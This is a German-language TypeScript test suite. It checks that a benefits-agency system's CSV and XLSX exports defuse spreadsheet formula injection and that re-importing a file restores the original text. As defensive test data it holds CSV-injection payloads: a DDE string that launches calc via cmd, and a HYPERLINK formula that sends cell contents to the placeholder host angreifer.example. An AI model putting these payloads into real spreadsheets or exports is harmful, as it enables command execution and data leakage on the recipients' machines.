// Formeln in Austauschdateien (OWASP „CSV Injection“): Was ein Träger als Aktenzeichen, Rechnung
// oder Name eingibt, landet im Export eines anderen Trägers. Keine Zelle darf dort als Formel
// ausgeführt werden; Beträge bleiben Zahlen, und der erneute Import gibt den Text unverändert zurück.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type Client, type Umgebung, baueUmgebung } from '../test/umgebung.ts';
import { liesZeilen } from './dateien.ts';
import { entschaerfe, entschaerfungAufheben } from './zellen.ts';

let a: Umgebung;
let b: Umgebung;

beforeAll(async () => {
  [a, b] = await Promise.all([baueUmgebung(), baueUmgebung()]);
}, 180_000);
afterAll(async () => {
  await a?.schliessen();
  await b?.schliessen();
});

const csv = { 'content-type': 'text/csv' };
const xlsx = { 'content-type': 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet' };
const formel = /^\s*[=+\-@\t\r]/;

const angriffe = {
  aktenzeichen: '=1+2',
  rechnung: "+cmd|' /C calc'!A0",
  bemerkung: '=HYPERLINK("https://angreifer.example/?d="&A1;"Klick")',
  zweitesAktenzeichen: ' @SUM(1+1)*cmd',
};

/** Die rohen Zellen einer Datei, so wie Excel sie sähe (ohne das Aufheben der Entschärfung). */
async function roheZellen(daten: Buffer): Promise<(string | number | boolean | Date | null)[]> {
  const aus = [];
  for await (const z of liesZeilen(daten).zeilen) aus.push(...z.zellen);
  return aus;
}

async function pruefeKeineFormel(daten: Buffer): Promise<void> {
  const zellen = await roheZellen(daten);
  expect(zellen.length).toBeGreaterThan(10);
  const lebendig = zellen.filter((z) => typeof z === 'string' && formel.test(z));
  expect(lebendig).toEqual([]);
}

async function anspruchMitFormeln(c: Client, aktenzeichen: string) {
  const r = await c.post('/api/v1/erstattungsansprueche', {
    aktenzeichen,
    verpflichteterId: 'bezirk-mittelfranken',
    rechtsgrundlage: {
      leistungsbeginn: '2025-01-01',
      verfahren: { zahlenderTraeger: 'zweiter', weitergeleitet: true, weiterleitungRechtzeitig: true },
      zahlender: { art: 'egh' },
      verpflichteter: { art: 'egh', insgesamtZustaendig: true },
    },
    leistungszeitraeume: [{ von: '2025-01-01', bis: '2025-01-31', betragCent: 123456, rechnung: angriffe.rechnung }],
    kenntnisEntscheidung: '2025-01-15',
    bemerkung: angriffe.bemerkung,
  });
  expect(r.statusCode, r.body).toBe(201);
  const id = r.json<{ id: string }>().id;
  const anm = await c.post(`/api/v1/erstattungsansprueche/${id}/anmelden`, {}, { 'if-match': String(r.headers.etag) });
  expect(anm.statusCode).toBe(200);
  return id;
}

describe('Formeln in Exporten', () => {
  it('entschaerfe und entschaerfungAufheben sind zueinander invers, auch für Texte, die schon mit Hochkomma beginnen', () => {
    for (const s of ['=1+2', '+1', '-1', '@SUM(A1)', '\t=1', '\r=1', '  =1', "'=1", "''+1", "'Hochkomma", 'normal', '-'])
      expect(entschaerfungAufheben(entschaerfe(s))).toBe(s);
    expect(entschaerfe('=1+2')).toBe("'=1+2");
    expect(entschaerfe('Aktenzeichen 1')).toBe('Aktenzeichen 1');
  });

  it('Erstattungsansprüche: im CSV und XLSX des anderen Trägers keine lebende Formel; Beträge bleiben Zahlen; Import gibt den Text zurück', async () => {
    const [schwaben, mittelfranken, schwabenB] = await Promise.all([a.als('schwaben'), a.als('mittelfranken'), b.als('schwaben')]);
    for (const format of ['csv', 'xlsx'] as const) {
      const aktenzeichen = [`${angriffe.aktenzeichen}/${format}`, `${angriffe.zweitesAktenzeichen}/${format}`];
      for (const az of aktenzeichen) await anspruchMitFormeln(schwaben, az);

      // Der andere Träger (Verpflichteter) exportiert: keine Zelle, die Excel als Formel ausführt.
      const fremd = await mittelfranken.get(`/api/v1/export/erstattungsansprueche?format=${format}&richtung=eingehend&suche=${format}`);
      expect(fremd.statusCode).toBe(200);
      await pruefeKeineFormel(fremd.rawPayload);
      if (format === 'csv') {
        expect(fremd.body).toContain(`'=1+2/csv`);
        // Der Betrag bleibt eine Zahl in deutscher Schreibweise, ohne Hochkomma.
        expect(fremd.body).toContain(';1.234,56;');
      } else expect((await roheZellen(fremd.rawPayload)).filter((z) => z === 1234.56)).toHaveLength(2);

      // Rundreise: der Anspruchsteller exportiert und importiert die Datei in eine zweite Datenbank.
      const eigen = await schwaben.get(`/api/v1/export/erstattungsansprueche?format=${format}&richtung=ausgehend&suche=${format}`);
      const r = await schwabenB.post(`/api/v1/import/erstattungsansprueche`, eigen.rawPayload, format === 'csv' ? csv : xlsx);
      expect(r.statusCode, r.body).toBe(201);
      for (const az of aktenzeichen) {
        const liste = (await schwabenB.get(`/api/v1/erstattungsansprueche?suche=${encodeURIComponent(az.trim())}`)).json<{
          eintraege: { id: string; aktenzeichen: string }[];
        }>();
        expect(liste.eintraege.map((x) => x.aktenzeichen)).toEqual([az]);
        const voll = (await schwabenB.get(`/api/v1/erstattungsansprueche/${liste.eintraege[0]?.id}`)).json();
        expect(voll.bemerkung).toBe(angriffe.bemerkung);
        expect(voll.leistungszeitraeume[0]).toMatchObject({ rechnung: angriffe.rechnung, betragCent: 123456 });
      }
    }
  });

  it('ein Export steht im Protokoll, sobald die Datei vollständig ist (nicht erst nach dem Download)', async () => {
    const [schwaben, prignitz] = await Promise.all([a.als('schwaben'), a.als('prignitz')]);
    const zaehle = async (art: string) =>
      Number(
        (
          await a.datenbank.roh<{ n: string }>(`select count(*) as n from protokoll where aktion = 'exportieren' and objekt_art = $1`, [
            art,
          ])
        )[0]?.n,
      );
    for (let i = 0; i < 5; i++) {
      const [ansprueche, faelle] = [await zaehle('erstattungsanspruch'), await zaehle('fall')];
      expect((await schwaben.get('/api/v1/export/erstattungsansprueche?format=csv')).statusCode).toBe(200);
      expect(await zaehle('erstattungsanspruch')).toBe(ansprueche + 1);
      expect((await prignitz.get('/api/v1/export/faelle?format=csv')).statusCode).toBe(200);
      expect(await zaehle('fall')).toBe(faelle + 1);
    }
  });

  it('Fälle: Aktenzeichen und Namen mit Formeln kommen entschärft in CSV und XLSX und unverändert zurück', async () => {
    const [prignitz, prignitzB] = await Promise.all([a.als('prignitz'), b.als('prignitz')]);
    const faelle = {
      csv: { aktenzeichen: '@SUM(1+1)*cmd', person: { nachname: '=HYPERLINK("https://angreifer.example";"x")', vorname: '-2+3' } },
      xlsx: { aktenzeichen: "+cmd|' /C calc'!A0", person: { nachname: '@Muster', vorname: '\t=1+2' } },
    };
    for (const [format, fall] of Object.entries(faelle)) {
      const r = await prignitz.post('/api/v1/faelle', fall);
      expect(r.statusCode, r.body).toBe(201);
      const suche = encodeURIComponent(fall.aktenzeichen.slice(1, 8));
      const e = await prignitz.get(`/api/v1/export/faelle?format=${format}&suche=${suche}`);
      expect(e.statusCode).toBe(200);
      await pruefeKeineFormel(e.rawPayload);
      const imp = await prignitzB.post('/api/v1/import/faelle', e.rawPayload, format === 'csv' ? csv : xlsx);
      expect(imp.statusCode, imp.body).toBe(201);
      const liste = (await prignitzB.get(`/api/v1/faelle?suche=${suche}`)).json<{ eintraege: { id: string; aktenzeichen: string }[] }>();
      expect(liste.eintraege.map((f) => f.aktenzeichen)).toEqual([fall.aktenzeichen]);
      const voll = (await prignitzB.get(`/api/v1/faelle/${liste.eintraege[0]?.id}`)).json();
      expect(voll.person).toMatchObject(fall.person);
    }
  });
});
